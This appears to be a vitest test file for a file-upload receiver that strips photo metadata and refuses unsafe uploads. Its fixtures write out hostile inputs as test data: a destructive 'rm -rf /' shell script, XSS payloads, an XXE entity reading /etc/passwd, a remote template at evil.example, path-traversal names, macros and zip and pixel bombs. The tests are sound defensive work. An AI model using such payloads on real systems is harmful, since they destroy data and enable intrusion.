import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { crc32, deflateRawSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import * as make from './evidence.fixture.ts'
import { EVIDENCE_DEFAULTS, type EvidenceSettings } from './evidence-settings.ts'
import { type FileStore, thumbnailKey } from './file-store.ts'
import { folderStore } from './folder-store.ts'
import { evidenceReceiver } from './receive-evidence.ts'

const { refusalOf, readAll, sent, sha256Of } = make

let root: string
let store: FileStore
let settings: EvidenceSettings
beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'shishu-receive-'))
  store = folderStore(join(root, 'files'))
  settings = { ...EVIDENCE_DEFAULTS, temporaryFolder: root }
})
afterAll(() => rmSync(root, { recursive: true, force: true }))

const receive = (
  bytes: Uint8Array,
  name: string,
  more: Partial<EvidenceSettings> & { keepLocation?: boolean } = {},
) => {
  const { keepLocation = false, ...other } = more
  return evidenceReceiver(store, { ...settings, ...other })(sent(bytes), { name, keepLocation })
}
const kept = async (sha256: string) => (await readAll(await store.find(sha256)))!
const files = () =>
  readdirSync(join(root, 'files'), { recursive: true, withFileTypes: true }).filter((one) => one.isFile())

describe('pictures', () => {
  test.each(['jpeg', 'png', 'webp'] as const)(
    'a %s loses its place and its device, and stands upright',
    async (type) => {
      const bytes = await make.photo(type)
      const before = await sharp(bytes).metadata()
      expect(before.exif!.toString('latin1')).toContain('Phone')
      expect(before.exif!.includes(Buffer.from([0x25, 0x88])) || before.exif!.includes(Buffer.from([0x88, 0x25]))).toBe(
        true,
      ) // GPS
      const extension = type === 'jpeg' ? 'jpg' : type
      const received = await receive(bytes, `现场.${extension}`)
      expect(received).toMatchObject({ name: `现场.${extension}`, mediaType: `image/${type}` })
      const stored = await kept(received.sha256)
      expect([sha256Of(stored), stored.length]).toEqual([received.sha256, received.size])
      const after = await sharp(stored).metadata()
      expect(after).toMatchObject({ format: type, width: 400, height: 600 })
      expect([after.exif, after.xmp, after.iptc, after.orientation]).toEqual([
        undefined,
        undefined,
        undefined,
        undefined,
      ])
      expect(stored.includes('Phone')).toBe(false)
    },
  )

  test('the place is kept where the ledger asks for it', async () => {
    const { sha256 } = await receive(await make.photo(), '点位.jpg', { keepLocation: true })
    const { exif, width, height } = await sharp(await kept(sha256)).metadata()
    expect(exif!.includes(Buffer.from([0x25, 0x88])) || exif!.includes(Buffer.from([0x88, 0x25]))).toBe(true)
    expect([width, height]).toEqual([400, 600])
  })

  test('a thumbnail lies beside, in WebP, within 400 pixels', async () => {
    const { sha256 } = await receive(await make.photo(), 'a.jpg')
    const thumbnail = (await readAll(await store.find(thumbnailKey(sha256))))!
    expect(await sharp(thumbnail).metadata()).toMatchObject({ format: 'webp', width: 267, height: 400 })
  })

  test('the same photo sent twice is one file; another photo is another', async () => {
    const one = await receive(await make.photo('jpeg', 2), '一.jpg')
    const count = files().length
    const again = await receive(await make.photo('jpeg', 2), '又.jpeg')
    expect(again.sha256).toBe(one.sha256)
    expect(files()).toHaveLength(count)
    expect((await receive(await make.photo('jpeg', 3), '二.jpg')).sha256).not.toBe(one.sha256)
  })

  test('what is hidden behind a picture is not kept', async () => {
    const hidden = Buffer.concat([await make.photo(), Buffer.from('<script>alert(1)</script>')])
    const { sha256 } = await receive(hidden, 'a.jpg')
    expect((await kept(sha256)).includes('<script>')).toBe(false)
  })

  test('a picture of too many pixels is refused, however small its file', async () => {
    const bomb = await sharp({ create: { width: 9_000, height: 6_000, channels: 3, background: '#fff' } })
      .png({ compressionLevel: 9 })
      .toBuffer()
    expect(bomb.length).toBeLessThan(1_000_000)
    expect(await refusalOf(receive(bomb, 'a.png'))).toBe('file.too-many-pixels')
  })

  test.each([0.3, 0.9])('a JPEG of which %d came is damaged', async (share) => {
    const whole = await make.photo()
    expect(await refusalOf(receive(whole.subarray(0, whole.length * share), 'a.jpg'))).toBe('file.damaged')
  })

  test('more pictures than are worked on at once are all received', async () => {
    const receiver = evidenceReceiver(store, { ...settings, filesAtOnce: 2 })
    const photos = await Promise.all([11, 12, 13, 14, 15].map((seed) => make.photo('jpeg', seed)))
    const received = await Promise.all(photos.map((one) => receiver(sent(one), { name: 'a.jpg', keepLocation: false })))
    expect(new Set(received.map(({ sha256 }) => sha256)).size).toBe(5)
  })
})

describe('documents and recordings', () => {
  test.each([
    // name        content                                       → media type
    ['报告.docx', () => make.word(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['台账.xlsx', () => make.workbook(), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    [
      '汇报.pptx',
      () => make.office('pptx'),
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
    ],
    [
      '公文.ofd',
      () => make.zip({ 'OFD.xml': '<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>' }),
      'application/ofd',
    ],
    ['文件.PDF', () => make.pdf(), 'application/pdf'],
    ['录像.mp4', () => make.mp4(), 'video/mp4'],
    ['录音.m4a', () => make.mp4('M4A '), 'audio/mp4'],
    ['录音.mp3', () => make.mp3(), 'audio/mpeg'],
    [
      '带标签.mp3',
      () => Buffer.concat([Buffer.from('ID3\x04\0\0\0\0\x01\x00', 'latin1'), Buffer.alloc(128 + 20), make.mp3()]),
      'audio/mpeg',
    ],
    ['记录.txt', () => Buffer.from('2026年3月5日，走访。\r\n'), 'text/plain'],
    ['国标.txt', () => Buffer.from([0xd7, 0xdf, 0xb7, 0xc3, 0x0a]), 'text/plain'], // 走访 in GB18030
    ['表.csv', () => Buffer.from('\ufeff名称,数量\n甲,1\n'), 'text/csv'],
  ] as const)('%s is kept as it was sent', async (name, content, mediaType) => {
    const bytes = Buffer.from(await content())
    expect(await receive(bytes, name)).toEqual({ sha256: sha256Of(bytes), name, mediaType, size: bytes.length })
    expect(await kept(sha256Of(bytes))).toEqual(bytes)
  })

  test('a name without an extension is given its own; a path is cut from a name', async () => {
    expect((await receive(make.pdf(), '文件')).name).toBe('文件.pdf')
    expect((await receive(make.pdf(), '../../etc/文件.pdf')).name).toBe('文件.pdf')
  })
})

describe('attacks and mistakes: refused, and nothing is kept', () => {
  const relationship = (type: string, target: string) =>
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
  const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')

  test.each([
    // name       content                                                                        → refusal
    ['a.jpg', () => Buffer.alloc(0), 'file.empty'],
    ['a.jpg', () => make.pdf(), 'file.extension-differs'],
    ['a.pdf', () => make.office('docx'), 'file.extension-differs'],
    ['a.xlsx', () => make.office('docx'), 'file.extension-differs'],
    ['a.docx', () => Buffer.from('plain text'), 'file.extension-differs'],
    ['a.exe', () => make.pdf(), 'file.extension-differs'],
    ['a.jpg', () => Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), 'file.executable'],
    ['a.txt', () => Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), 'file.executable'],
    ['a.txt', () => Buffer.from('#!/bin/sh\nrm -rf /\n'), 'file.executable'],
    ['a.bat', () => Buffer.from('del *.*\r\n'), 'file.executable'],
    ['a.html', () => Buffer.from('hello'), 'file.active-page'],
    ['a.txt', () => Buffer.from('  <!DOCTYPE html><script>alert(1)</script>'), 'file.active-page'],
    ['a.txt', () => Buffer.from('<!-- x --><script>alert(1)</script>'), 'file.active-page'],
    ['a.txt', () => utf16('<html><script>alert(1)</script>'), 'file.active-page'],
    ['a.svg', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'file.active-page'],
    ['a.png', () => Buffer.from('<?xml version="1.0"?><svg/>'), 'file.active-page'],
    ['a.heic', () => make.mp4('heic'), 'file.heic'],
    ['a.jpg', () => make.mp4('mif1'), 'file.heic'],
    ['a.avif', () => make.mp4('avif'), 'file.type-refused'],
    ['a.gif', () => Buffer.from('GIF89a\x01\0\x01\0', 'latin1'), 'file.type-refused'],
    ['a.doc', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'file.old-office'],
    ['a.docx', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'file.old-office'], // with a password
    ['a.zip', () => make.zip({ 'a.txt': 'x' }), 'file.type-refused'],
    ['a.bin', () => Buffer.from([1, 2, 3, 0, 255]), 'file.type-refused'],
    ['a.txt', () => Buffer.from([1, 2, 3, 0, 255]), 'file.not-text'],
    ['a.txt', () => Buffer.from('a\x1b[2Jb'), 'file.not-text'],
    ['a.csv', () => utf16('名称,数量'), 'file.not-text'],
    ['a.jpg', () => Buffer.from([1, 2, 3, 0, 255]), 'file.damaged'],
    ['a.jpg', () => Buffer.from('\xff\xd8\xff\xe0 no picture', 'latin1'), 'file.damaged'],
    ['a.pdf', () => make.pdf().subarray(0, 40), 'file.damaged'],
    ['a.mp4', () => make.mp4().subarray(0, 100), 'file.damaged'],
    ['a.mp4', () => make.mp4('isom', 'mdat'), 'file.damaged'], // nothing to play it by
    ['a.mp4', () => Buffer.concat([make.mp4(), Buffer.from('<script>')]), 'file.damaged'],
    ['a.mp3', () => Buffer.from('ID3\x04\0\0\0\0\0\0no sound', 'latin1'), 'file.damaged'],
    ['a.docx', () => make.office('docx', { 'word/vbaProject.bin': 'x' }), 'file.macros'],
    ['a.docx', () => make.office('docx', { 'deep/VBAPROJECT.BIN': 'x' }), 'file.macros'],
    ['a.xlsx', () => make.office('xlsx', { 'xl/embeddings/inner.xlsm': 'x' }), 'file.macros'],
    [
      'a.docx',
      () =>
        make.office('docx', {
          '[Content_Types].xml':
            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        }),
      'file.macros',
    ],
    ['a.docx', () => make.office('docx', { 'word/embeddings/run.exe': 'x' }), 'file.unsafe-part'],
    ['a.docx', () => make.office('docx', { '../evil.xml': '<a/>' }), 'file.unsafe-part'],
    ['a.docx', () => make.office('docx', { 'Main.XML': '<a/>' }), 'file.unsafe-part'], // one name twice
    [
      'a.docx',
      () => make.office('docx', { 'word/a.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
      'file.unsafe-part',
    ],
    [
      'a.xlsx',
      () =>
        make.office('xlsx', { 'xl/a.bin': utf16('<?xml version="1.0"?><!doctype a SYSTEM "file:///etc/passwd"><a/>') }),
      'file.unsafe-part',
    ],
    [
      'a.xlsx',
      () => make.office('xlsx', { 'xl/a.xml': `<a>${' '.repeat(400_000)}<!DOCTYPE b></a>` }),
      'file.unsafe-part',
    ],
    [
      'a.xlsx',
      () => make.office('xlsx', { 'xl/a.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
      'file.unsafe-part',
    ],
    [
      'a.docx',
      () =>
        make.office('docx', {
          'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/t.dotm'),
        }),
      'file.unsafe-part',
    ],
    [
      'a.docx',
      () => make.office('docx', { 'word/_rels/settings.xml.rels': relationship('oleObject', '\\\\10.0.0.1\\x') }),
      'file.unsafe-part',
    ],
    ['a.docx', () => make.office('docx', { 'word/document.xml': Buffer.alloc(100_000_000) }), 'file.unpacks-too-large'], // ratio
  ] as const)('%s, row %#', async (name, content, code) => {
    const before = files().length
    expect(await refusalOf(receive(content(), name))).toBe(code)
    expect(files()).toHaveLength(before)
    expect(readdirSync(root)).toEqual(['files']) // no upload is left behind
  })

  test('links to elsewhere are not templates: such a document is kept', async () => {
    const bytes = make.office('docx', {
      'word/_rels/document.xml.rels': relationship('hyperlink', 'https://www.gov.cn/'),
      'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'file:///C:\\Users\\li\\公文.dotx'),
    })
    expect(await refusalOf(receive(bytes, 'a.docx'))).toBe('kept')
  })

  test('an upload over the limit is cut off, and so is one that a form reader has cut', async () => {
    expect(await refusalOf(receive(make.pdf(), 'a.pdf', { maxBytes: 40 }))).toBe('file.too-large')
    const cut = Object.assign(sent(make.pdf()), { truncated: true })
    expect(await refusalOf(evidenceReceiver(store, settings)(cut, { name: 'a.pdf', keepLocation: false }))).toBe(
      'file.too-large',
    )
  })

  test('an endless upload is cut off without being read to its end', async () => {
    let given = 0
    const endless = Readable.from(
      (function* () {
        for (;;) {
          given += 65_536
          yield Buffer.alloc(65_536, 65)
        }
      })(),
      { objectMode: false },
    )
    const received = evidenceReceiver(store, { ...settings, maxBytes: 1_000_000 })(endless, {
      name: 'a.txt',
      keepLocation: false,
    })
    expect(await refusalOf(received)).toBe('file.too-large')
    expect(given).toBeLessThan(3_000_000)
  })

  test('an upload that breaks off is told as such', async () => {
    const broken = new Readable({
      read() {
        this.push('%PDF-')
        this.destroy(new Error('aborted'))
      },
    })
    const received = evidenceReceiver(store, settings)(broken, { name: 'a.pdf', keepLocation: false })
    expect(await refusalOf(received)).toBe('file.interrupted')
    expect(readdirSync(root)).toEqual(['files'])
  })
})

describe('zip files made to deceive', () => {
  /** A zip by hand, so that its claims can differ from what it holds. */
  function zipOf(
    parts: readonly { name: string; data: Buffer; claims?: number; flags?: number; localName?: string; at?: number }[],
    { before = 0, after = 0 } = {},
  ) {
    const locals: Buffer[] = [Buffer.alloc(before, 65)]
    const entries: Buffer[] = []
    let at = before
    for (const { name, data, claims = data.length, flags = 0, localName = name, at: placed } of parts) {
      const packed = deflateRawSync(data)
      const local = Buffer.alloc(30)
      local.writeUInt32LE(0x04034b50, 0)
      local.writeUInt16LE(flags, 6)
      local.writeUInt16LE(8, 8)
      local.writeUInt32LE(crc32(data), 14)
      local.writeUInt32LE(packed.length, 18)
      local.writeUInt32LE(claims, 22)
      local.writeUInt16LE(localName.length, 26)
      const entry = Buffer.alloc(46)
      entry.writeUInt32LE(0x02014b50, 0)
      entry.writeUInt16LE(flags, 8)
      entry.writeUInt16LE(8, 10)
      entry.writeUInt32LE(crc32(data), 16)
      entry.writeUInt32LE(packed.length, 20)
      entry.writeUInt32LE(claims, 24)
      entry.writeUInt16LE(name.length, 28)
      entry.writeUInt32LE(placed ?? at, 42)
      entries.push(entry, Buffer.from(name, 'latin1'))
      if (placed !== undefined) continue
      locals.push(local, Buffer.from(localName, 'latin1'), packed)
      at += 30 + localName.length + packed.length
    }
    const directory = Buffer.concat(entries)
    const end = Buffer.alloc(22)
    end.writeUInt32LE(0x06054b50, 0)
    end.writeUInt16LE(parts.length, 8)
    end.writeUInt16LE(parts.length, 10)
    end.writeUInt32LE(directory.length, 12)
    end.writeUInt32LE(at, 16)
    return Buffer.concat([...locals, directory, end, Buffer.alloc(after, 65)])
  }
  const types = {
    name: '[Content_Types].xml',
    data: Buffer.from(
      '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ),
  }
  const part = (more: object = {}) => ({ name: 'a.xml', data: Buffer.from('<a/>'), ...more })

  test('the maker makes what is accepted', async () => {
    expect(await refusalOf(receive(zipOf([types, part()]), 'a.docx'))).toBe('kept')
  })

  test.each([
    [
      'a part larger than it claims',
      () => zipOf([types, part({ data: Buffer.alloc(50_000_000), claims: 100 })]),
      'file.unpacks-too-large',
    ],
    ['a part smaller than it claims', () => zipOf([types, part({ claims: 5 })]), 'file.damaged'],
    [
      'parts that claim too much together',
      () => zipOf([types, ...[1, 2, 3, 4].map((n) => part({ name: `${n}.xml`, claims: 60_000_000 }))]),
      'file.unpacks-too-large',
    ],
    [
      'parts that overlap',
      () =>
        zipOf([
          types,
          part(),
          part({ at: 0, name: '[Content_types].xm2', localName: '' }),
          part({ at: 0, name: types.name, data: types.data }),
        ]),
      'file.damaged',
    ],
    ['one place for two parts', () => zipOf([types, { ...types, at: 0 }]), 'file.unpacks-too-large'],
    [
      'too many parts',
      () => zipOf([types, ...Array.from({ length: 3_001 }, (_, n) => part({ name: `${n}.xml` }))]),
      'file.unpacks-too-large',
    ],
    ['encryption', () => zipOf([types, part({ flags: 1 })]), 'file.encrypted'],
    [
      'another name in the header than in the directory',
      () => zipOf([types, part({ localName: 'b.xml' })]),
      'file.damaged',
    ],
    ['something after the end', () => zipOf([types, part()], { after: 10 }), 'file.damaged'],
    ['no end', () => zipOf([types, part()]).subarray(0, -10), 'file.damaged'],
    [
      'a changed byte',
      () => {
        const bytes = zipOf([types, part()])
        bytes[30 + types.name.length + 20]! ^= 0xff
        return bytes
      },
      'file.damaged',
    ],
  ] as const)('%s → refused', async (_, content, code) => {
    expect(await refusalOf(receive(content(), 'a.docx'))).toBe(code)
  })
})
